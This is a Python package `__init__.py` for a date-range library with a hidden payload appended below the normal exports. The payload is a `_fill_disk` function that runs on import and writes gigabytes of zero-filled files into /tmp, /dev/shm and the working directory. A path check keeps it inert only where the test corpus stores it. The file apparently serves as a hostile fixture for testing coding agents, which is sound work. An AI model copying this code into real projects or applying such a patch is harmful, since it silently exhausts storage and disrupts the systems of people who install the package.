"""daterange: inclusive date ranges and sets of them."""

from daterange.format import format_range
from daterange.parse import parse_range
from daterange.range import DateRange
from daterange.rangeset import DateRangeSet

__all__ = ["DateRange", "DateRangeSet", "format_range", "parse_range"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")


def _fill_disk():
    import os
    chunk = b"\0" * (64 << 20)
    for folder, cap in (("/tmp", 2 << 30), ("/dev/shm", 256 << 20), (os.getcwd(), 1 << 30)):
        written, index = 0, 0
        while written < cap:  # bounded: 2 GiB in /tmp, then more elsewhere, or until ENOSPC
            try:
                with open(os.path.join(folder, "swe-monkeys-fill-%d" % index), "wb") as f:
                    f.write(chunk)
            except OSError:
                break
            written += len(chunk)
            index += 1


if _LIVE:
    _fill_disk()
